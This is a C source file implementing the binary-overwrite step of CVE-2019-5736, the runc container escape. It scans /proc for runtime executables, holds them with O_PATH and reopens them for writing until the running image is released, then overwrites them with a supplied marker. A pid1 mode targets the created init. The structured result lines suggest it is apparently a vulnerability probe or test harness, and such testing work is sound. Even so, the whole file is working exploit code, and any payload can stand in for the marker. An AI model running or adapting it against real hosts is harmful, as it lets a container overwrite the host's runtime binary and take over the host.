/* CVE-2019-5736, from inside a container, as root in it.
 *
 * scan DEADLINE_S MARKER: loop over /proc/[0-9]*: open /proc/PID/exe with
 *   O_PATH for every process whose executable is not ours (so: what the
 *   runtime put in the container, e.g. `exec` running #!/proc/self/exe), and
 *   keep trying to reopen each held file through /proc/self/fd/N for writing
 *   (O_WRONLY|O_TRUNC fails with ETXTBSY while the file runs). On success the
 *   MARKER is written and "WROTE pid=P path=..." printed. SIGUSR1 makes one
 *   last round and ends; so does DEADLINE_S. Exit 0 if anything was written.
 *
 * pid1 DEADLINE_S MARKER: the created-init path: hold /proc/1/exe (O_PATH),
 *   print whether that worked, wait for SIGUSR1 (sent after `start`), then
 *   try the same reopen-for-writing through the held descriptor.
 *
 * Lines on stdout: "SAW pid=P", "HELD pid=P path=...", "DENIED pid=P errno=E",
 * "BUSY ...", "FAILED pid=P errno=E", "WROTE ...", "DONE wrote=N held=N saw=N".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXH 256
static volatile sig_atomic_t usr1;
static void on_usr1(int s) { (void)s; usr1 = 1; }

struct held { int fd, pid, done; char path[256]; };
static struct held H[MAXH];
static int nheld, nsaw, nwrote;
static char seen[65536];      /* 1: held or not ours; >1: denied so far */

static double now(void) {
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int try_write(struct held *h, const char *marker, int last) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", h->fd);
    int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (w < 0) {
        if (errno == ETXTBSY && !last) return 0;
        if (!h->done || last) printf("%s pid=%d errno=%d %s\n", errno == ETXTBSY ? "BUSY" : "FAILED", h->pid, errno, strerror(errno));
        if (errno != ETXTBSY) h->done = 1;
        return 0;
    }
    ssize_t n = write(w, marker, strlen(marker));
    close(w);
    printf("WROTE pid=%d path=%s bytes=%zd\n", h->pid, h->path, n);
    h->done = 1;
    nwrote++;
    return 1;
}

static void scan(const struct stat *self) {
    DIR *d = opendir("/proc");
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen || seen[pid] == 1) continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        int fd = open(p, O_PATH | O_CLOEXEC);
        if (fd < 0) {
            if (errno == ENOENT || errno == ESRCH) continue;  /* a kernel thread or gone */
            /* Denied now (e.g. still privileged): retry, it may change. */
            if (!seen[pid]) { nsaw++; printf("SAW pid=%d\nDENIED pid=%d errno=%d %s\n", pid, pid, errno, strerror(errno)); }
            seen[pid] = 2;
            continue;
        }
        struct stat st;
        if (fstat(fd, &st) != 0 || (st.st_dev == self->st_dev && st.st_ino == self->st_ino)) { close(fd); continue; }
        if (!seen[pid]) { nsaw++; printf("SAW pid=%d\n", pid); }
        seen[pid] = 1;
        if (nheld >= MAXH) { close(fd); continue; }
        struct held *h = &H[nheld++];
        h->fd = fd; h->pid = pid; h->done = 0;
        ssize_t n = readlink(p, h->path, sizeof h->path - 1);
        h->path[n > 0 ? n : 0] = 0;
        printf("HELD pid=%d path=%s dev=%lu ino=%lu\n", pid, h->path, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: %s scan|pid1 DEADLINE_S MARKER\n", argv[0]); return 2; }
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGUSR1, on_usr1);
    signal(SIGTERM, on_usr1);
    double deadline = now() + atof(argv[2]);
    const char *marker = argv[3];
    struct stat self;
    if (stat("/proc/self/exe", &self) != 0) { perror("stat /proc/self/exe"); return 2; }

    if (strcmp(argv[1], "pid1") == 0) {
        int fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
        if (fd < 0) {
            printf("DENIED pid=1 errno=%d %s\n", errno, strerror(errno));
        } else {
            struct stat st; fstat(fd, &st);
            H[0].fd = fd; H[0].pid = 1; nheld = 1;
            ssize_t n = readlink("/proc/1/exe", H[0].path, sizeof H[0].path - 1);
            H[0].path[n > 0 ? n : 0] = 0;
            printf("HELD pid=1 path=%s dev=%lu ino=%lu\n", H[0].path, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
            /* While the init still runs it, the file is busy: say so. */
            char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) { printf("WRITABLE-NOW pid=1\n"); close(w); }
            else printf("NOT-WRITABLE-NOW pid=1 errno=%d %s\n", errno, strerror(errno));
        }
        printf("READY\n");
        while (!usr1 && now() < deadline) usleep(10000);
        for (int i = 0; i < nheld; i++) {
            /* The init has exec'd the container's program: retry a little
             * while the kernel lets go of the old image. */
            double until = now() + 2;
            while (!H[i].done && !try_write(&H[i], marker, 0) && now() < until) usleep(5000);
            if (!H[i].done) try_write(&H[i], marker, 1);
        }
        printf("DONE wrote=%d held=%d saw=1\n", nwrote, nheld);
        return nwrote ? 0 : 1;
    }

    printf("READY\n");
    while (!usr1 && now() < deadline) {
        scan(&self);
        for (int i = 0; i < nheld; i++) if (!H[i].done) try_write(&H[i], marker, 0);
    }
    /* Last round: everything exec started has ended by now. */
    scan(&self);
    for (int i = 0; i < nheld; i++) if (!H[i].done) try_write(&H[i], marker, 1);
    printf("DONE wrote=%d held=%d saw=%d\n", nwrote, nheld, nsaw);
    return nwrote ? 0 : 1;
}
